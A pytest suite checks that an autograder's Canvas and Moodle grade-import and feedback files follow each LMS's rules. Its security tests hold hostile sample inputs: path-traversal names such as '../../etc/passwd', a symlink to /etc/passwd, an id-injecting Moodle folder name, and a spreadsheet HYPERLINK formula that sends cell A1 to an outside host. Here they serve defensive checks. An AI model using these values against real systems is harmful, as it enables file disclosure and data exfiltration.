"""The way back: Canvas's import file and feedback zip, Moodle's worksheet and feedback zip.

Each file is read back by a reader written here from the LMS's own rules, independent of the
code that wrote it: Canvas's ``GradebookImporter`` (a header whose assignment columns end in
``(<id>)``, an optional ``Points Possible`` row, students found by ``ID``), Canvas's
Re-Upload Submissions (the first two all-digit ``_`` parts of a file's name: user id and
attachment id), Moodle's worksheet importer (the ``Identifier``, ``Grade`` and ``Last modified
(grade)`` columns by name, the id after ``Participant``) and Moodle's feedback zip importer (a
folder name split at ``_``, at most five parts: full name, participant id, plugin type, plugin
name). The course is tests/handback_course.py's: collected from real zips, graded by hand.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import handback_course as course_data
import pytest
from handback_course import FEEDBACK, NB1

from autograder.cli import harness
from autograder.handback import canvas_csv, package, roster
from autograder.runner.names import ASSIGNMENT


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return course_data.build(tmp_path_factory.mktemp("handback"))


def _run(capsys, *args: str) -> str:
    capsys.readouterr()
    assert harness.main(list(args)) == 0
    return capsys.readouterr().out


# ---- readers written from the LMSs' rules ---------------------------------------------------

def canvas_import(path: Path) -> tuple[str, str, float | None, dict[str, str]]:
    """Canvas's reading of an import file: (title, assignment id or "", points, ID -> score)."""
    with open(path, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    (column,) = header[5:]  # one assignment column
    found = re.fullmatch(r"(.*?)\s*\((\d+)\)", column)
    title, aid = (found[1], found[2]) if found else (column, "")
    points = None
    scores = {}
    for row in rows[1:]:
        if re.search("Points Possible", row[0]):
            points = float(row[5])
            continue
        assert row[1].isdigit(), f"a row Canvas cannot find by ID: {row}"
        assert row[1] not in scores, "one row per student"
        scores[row[1]] = row[5]
    return title, aid, points, scores


def canvas_reupload(name: str) -> tuple[str, str]:
    """(user id, attachment id) as Canvas's Re-Upload Submissions reads a file's name."""
    digits = [p for p in Path(name).name.split("_") if re.fullmatch(r"\d+", p)]
    assert not Path(name).name.startswith("._")
    return digits[0], digits[1]


def moodle_worksheet(path: Path) -> dict[str, tuple[str, int, str]]:
    """Moodle's reading of a worksheet: participant id -> (grade, modified time, comments)."""
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    columns = rows[0]
    idx, grade, modified = (columns.index(c) for c in ("Identifier", "Grade",
                                                       "Last modified (grade)"))
    comments = columns.index("Feedback comments")
    out = {}
    for row in rows[1:]:
        pid = row[idx][len("Participant "):]
        assert row[idx].startswith("Participant ") and pid.isdigit()
        stamp = int(dt.datetime.fromisoformat(row[modified]).timestamp())  # strtotime's ISO
        out[pid] = (row[grade], stamp, row[comments])
    return out


def moodle_feedback_zip(data: bytes) -> dict[str, dict[str, bytes]]:
    """Moodle's reading of a feedback zip: participant id -> {file name: bytes}."""
    out: dict[str, dict[str, bytes]] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for info in zf.infolist():
            base = info.filename.rsplit("/", 1)[-1]
            if info.is_dir() or base.startswith((".", "~")):
                continue
            parts = info.filename.split("/")
            while parts:
                info5 = parts.pop(0).split("_", 4)
                if len(info5) < 4 or not info5[1].isdigit():
                    continue
                assert info5[2:4] == ["assignsubmission", "file"]
                name = "/".join([*(info5[4:] or [""]), *parts]).lstrip("/")
                out.setdefault(info5[1], {})[name] = zf.read(info)
                break
    return out


# ---- Canvas ---------------------------------------------------------------------------------

def test_a_canvas_export_becomes_an_import_file_canvas_reads(course: Path, capsys) -> None:
    export = course_data.canvas_export(course.parent / "export.csv")
    out = _run(capsys, "export", "--root", str(course), "--lms", "canvas", "--gradebook",
               str(export), "--assignment", "1234")
    title, aid, points, scores = canvas_import(course / "handback" / "canvas-import.csv")
    assert (title, aid, points) == ("Week 4: Roofline", "1234", 100.0)
    # on the assignment's 100 points: jane 12/12, minji 9/12 (hand grades in); bob waits
    assert scores == {"4101": "100", "4103": "75"}
    assert "WAITING  4102" in out and "01_arithmetic_intensity:why" in out
    assert "ABSENT   ghost (Casper Ghost)" in out
    assert "UNGRADED 4107: in the LMS's zip, not in the gradebook" in out
    assert "MISSING  vic (Vic Sample): graded, but no row of the Canvas export" in out
    assert "NEVER    Lee, Quinn (Canvas ID 4105): in Canvas, never handed in" in out
    # Canvas's own ids and names come from its export, not from us
    rows = list(csv.reader((course / "handback" / "canvas-import.csv").open()))
    assert rows[2][:5] == ["Doe, Jane", "4101", "S4101", "jane@uni.example", "GPU 101"]


def test_without_an_export_a_new_assignment_by_the_collected_ids(course: Path, capsys) -> None:
    out = _run(capsys, "export", "--root", str(course), "--lms", "canvas")
    title, aid, points, scores = canvas_import(course / "handback" / "canvas-import.csv")
    assert (title, aid, points) == (canvas_csv.DEFAULT_TITLE, "", 12.0)  # Canvas creates it
    assert scores == {"4101": "12", "4103": "9"}  # the ids make collect read from the zip
    assert "MISSING  vic (Vic Sample): no Canvas user id" in out  # a Moodle student


def test_the_canvas_feedback_zip_is_named_for_re_upload(course: Path, capsys) -> None:
    _run(capsys, "export", "--root", str(course), "--lms", "canvas")
    with zipfile.ZipFile(course / "handback" / "canvas-feedback.zip") as zf:
        got = {canvas_reupload(n): zf.read(n) for n in zf.namelist()}
    # the user id and the attachment id of the upload that was graded, from the zip's names
    assert got == {("4101", "700001"): FEEDBACK["jane"].encode(),
                   ("4103", "700003"): FEEDBACK["minji"].encode()}
    assert "피드백" in got[("4103", "700003")].decode()  # Korean feedback stays Korean


def test_students_are_matched_by_sis_id_then_name_as_canvas_does(course: Path) -> None:
    export = canvas_csv.read_export(course_data.canvas_export(course.parent / "e2.csv"))
    assert [r["Student"] for r in export.rows][:2] == ["Doe, Jane", "Smith, Bob"]
    assert export.points == {"900": 20.0, "1234": 100.0}  # "(read only)" skipped
    sis = roster.Student("S4105")  # our id is Canvas's SIS User ID
    named = roster.Student("x1", name="Jane Doe")  # "Doe, Jane" read as First Last
    squashed = roster.Student("x2", lms_name={"canvas": "smithbob"})  # Canvas's zip name
    nobody = roster.Student("x3", name="Nobody Here")
    found, free = canvas_csv.match([sis, named, squashed, nobody], export)
    assert {k: v["ID"] for k, v in found.items()} == {"S4105": "4105", "x1": "4101",
                                                      "x2": "4102"}
    assert sorted(r["ID"] for r in free) == ["4103", "4199"]
    # a name two rows share matches neither
    export.rows.append({**export.rows[0], "ID": "4200"})
    found, _ = canvas_csv.match([roster.Student("x1", name="Jane Doe")], export)
    assert found == {}


def test_an_unknown_assignment_id_is_refused_with_the_choices(course: Path) -> None:
    export = canvas_csv.read_export(course_data.canvas_export(course.parent / "e3.csv"))
    with pytest.raises(SystemExit, match=r"no assignment 77.*Week 3 \(900\)"):
        canvas_csv.pick_assignment(export, "77")
    assert canvas_csv.pick_assignment(export, "week 3") == ("Week 3", "900")


def test_a_file_that_is_no_canvas_export_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "grades.csv"
    bad.write_text("student_id,score\n1,2\n")
    with pytest.raises(SystemExit, match="not a Canvas gradebook export"):
        canvas_csv.read_export(bad)


# ---- Moodle ---------------------------------------------------------------------------------

def test_the_moodle_worksheet_and_feedback_zip_follow_moodles_rules(course: Path, capsys
                                                                     ) -> None:
    before = int(dt.datetime.now(dt.UTC).timestamp()) - 1
    out = _run(capsys, "export", "--root", str(course), "--lms", "moodle")
    sheet = moodle_worksheet(course / "handback" / "moodle-worksheet.csv")
    assert list(sheet) == ["5202"]  # vic, by the participant id of Moodle's zip
    grade, modified, comments = sheet["5202"]
    assert grade == "9" and modified >= before  # not older than the export: Moodle takes it
    assert "9 of 12 points" in comments
    files = moodle_feedback_zip((course / "handback" / "moodle-feedback.zip").read_bytes())
    assert files == {"5202": {f"{NB1}-feedback.html": FEEDBACK["vic"].encode()}}
    assert "MISSING  jane (Jane Doe): no Moodle participant id" in out  # a Canvas student


def test_a_moodle_worksheet_names_who_never_handed_in(course: Path, capsys) -> None:
    given = course.parent / "moodle-download.csv"
    given.write_text("Identifier,Full name,Email address,Status,Grade\n"
                     "Participant 5202,Vic Sample,vic@uni.example,Submitted,\n"
                     "Participant 5300,Wen Li,wen@uni.example,No submission,\n")
    out = _run(capsys, "export", "--root", str(course), "--lms", "moodle", "--worksheet",
               str(given), "--out-of", "100")
    assert "NEVER    Wen Li (Participant 5300): in Moodle, never handed in" in out
    assert moodle_worksheet(course / "handback" / "moodle-worksheet.csv")["5202"][0] == "75"


# ---- names from student and LMS data --------------------------------------------------------

@pytest.mark.parametrize("hostile", ["../../etc/passwd", "/abs/path", "..", ".hidden",
                                     "~backup", "a\\b\x00c\nd", "C:evil", "x" * 300, ""])
def test_names_from_lms_data_cannot_leave_the_folder(hostile: str) -> None:
    safe = package.safe_part(hostile)
    assert safe and "/" not in safe and "\\" not in safe and ".." not in safe
    assert not safe.startswith((".", "~")) and len(safe) <= 100
    assert all(c.isprintable() for c in safe)


def test_a_hostile_moodle_name_still_makes_a_folder_moodle_reads(tmp_path: Path) -> None:
    html = tmp_path / f"{NB1}.html"
    html.write_text("<p>x</p>")
    who = roster.Student("eve", lms_name={"moodle": "../../Eve_7_assignfeedback_x"},
                         collected={"moodle": "5301"}, score=1, maximum=2, feedback=[html])
    from autograder.handback import moodle

    _, archive, written, _, _ = moodle.write(tmp_path / "out", [who], None)
    assert written == [who]
    files = moodle_feedback_zip(archive.read_bytes())
    assert list(files) == ["5301"]  # her own id, not the 7 her name tried to inject
    with zipfile.ZipFile(archive) as zf:
        assert all(".." not in n and not n.startswith("/") for n in zf.namelist())


def test_a_name_that_is_a_formula_stays_text_in_both_lms_files(tmp_path: Path) -> None:
    """Instructors open these CSVs in a spreadsheet: a name is never a formula there."""
    import csv

    from autograder.handback import canvas_csv, moodle

    formula = '=HYPERLINK("https://example.org?"&A1,"x")'
    html = tmp_path / f"{NB1}.html"
    html.write_text("<p>x</p>")
    who = roster.Student("eve", name=formula, lms_name={"moodle": formula},
                         collected={"moodle": "5301", "canvas": "4301"}, score=1, maximum=2,
                         feedback=[html])
    worksheet, *_ = moodle.write(tmp_path / "out", [who], None)
    canvas = tmp_path / "canvas.csv"
    canvas_csv.write_import(canvas, [who], None, "Week 4", "", None)
    for path in (worksheet, canvas):
        with open(path, newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], (path, cells)
        assert f"'{formula}" in cells, (path, cells)


def test_write_zip_refuses_an_unsafe_member(tmp_path: Path) -> None:
    src = tmp_path / "f.html"
    src.write_text("x")
    with pytest.raises(ValueError, match="unsafe name"):
        package.write_zip(tmp_path / "z.zip", [("../f.html", src)])
    link = tmp_path / "link.html"
    link.symlink_to("/etc/passwd")
    with pytest.raises(ValueError, match="not a plain file"):
        package.write_zip(tmp_path / "z.zip", [("f.html", link)])
    assert package.write_zip(tmp_path / "z.zip", [("f.html", src)]) == 1


def test_the_feedback_is_copied_byte_for_byte(course: Path, capsys) -> None:
    """Student-rendered HTML (a script in jane's) is packed as it is: never parsed."""
    _run(capsys, "export", "--root", str(course), "--lms", "canvas")
    with zipfile.ZipFile(course / "handback" / "canvas-feedback.zip") as zf:
        jane = next(n for n in zf.namelist() if "_4101_" in n)
        assert zf.read(jane) == (course / "feedback" / "jane" / ASSIGNMENT /
                                 f"{NB1}.html").read_bytes()


def test_a_waiting_student_can_be_sent_when_asked(course: Path, capsys) -> None:
    out = _run(capsys, "export", "--root", str(course), "--lms", "canvas",
               "--include-ungraded")
    _, _, _, scores = canvas_import(course / "handback" / "canvas-import.csv")
    assert scores["4102"] == "10" and "WAITING" not in out


def test_students_from_the_exchange_get_their_ids_from_a_mapping_or_the_gradebook(
        course: Path, tmp_path: Path, capsys) -> None:
    """No zip named them: exa's Canvas id comes from MAPPING= (make collect's lms_id,student_id
    file), exb's from the gradebook's lms_user_id (nbgrader db student import)."""
    import shutil

    from nbgrader.api import Gradebook

    root = tmp_path / "course"
    shutil.copytree(course, root)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student, lms_id in (("exa", None), ("exb", "4106")):
            gb.add_student(student, lms_user_id=lms_id)
            gb.add_submission(ASSIGNMENT, student)
            for cell, score in (("auto", 10), ("why", 1)):
                grade = gb.find_grade(cell, NB1, ASSIGNMENT, student)
                grade.needs_manual_grade = False
                if cell == "auto":
                    grade.auto_score = score
                else:
                    grade.manual_score = score
            for step in ("submitted", "autograded", "feedback"):
                folder = root / step / student / ASSIGNMENT
                folder.mkdir(parents=True)
                (folder / f"{NB1}.{'html' if step == 'feedback' else 'ipynb'}").write_text("{}")
        gb.db.commit()
    ids = tmp_path / "exchange-ids.csv"
    ids.write_text("lms_id,student_id\n4104,exa\n")
    out = _run(capsys, "export", "--root", str(root), "--lms", "canvas", "--mapping", str(ids))
    _, _, _, scores = canvas_import(root / "handback" / "canvas-import.csv")
    assert scores == {"4101": "12", "4103": "9", "4104": "11", "4106": "11"}
    out = _run(capsys, "export", "--root", str(root), "--lms", "canvas")  # no mapping: listed
    assert "MISSING  exa: no Canvas user id" in out


def test_a_grade_is_sent_only_when_final_unless_asked() -> None:
    from autograder.results.table import Row

    died = Row("gus", scores={NB1: (6, 11)}, failed=[NB1], notes=[f"{NB1}: the kernel died"])
    waits = Row("ada", scores={NB1: (11, 11)}, manual=[f"{NB1}:why"])
    none = Row("cam", scores={NB1: (0, 11)}, missing=[NB1], notes=["no submission"])
    fine = Row("bea", scores={NB1: (11, 11)})
    assert roster._state(died, False, False)[0] == roster.FAILED
    assert "INCLUDE_FAILED=1" in roster._state(died, False, False)[1]
    assert roster._state(died, False, True)[0] == roster.READY
    assert roster._state(waits, False, False) == (
        roster.WAITING, f"to grade by hand in the formgrader: {NB1}:why; then `make table` "
        "and export again")
    assert roster._state(waits, True, False)[0] == roster.READY
    assert roster._state(none, True, True)[0] == roster.ABSENT  # nothing to send, ever
    assert roster._state(fine, False, False) == (roster.READY, "")


def test_out_of_other_points_than_canvas_has_is_said(course: Path, capsys) -> None:
    export = course_data.canvas_export(course.parent / "e4.csv")
    out = _run(capsys, "export", "--root", str(course), "--lms", "canvas", "--gradebook",
               str(export), "--assignment", "Week 4: Roofline", "--out-of", "50")
    assert "the import changes its points possible to 50" in out
    _, aid, points, scores = canvas_import(course / "handback" / "canvas-import.csv")
    assert (aid, points, scores) == ("1234", 50.0, {"4101": "50", "4103": "37.5"})
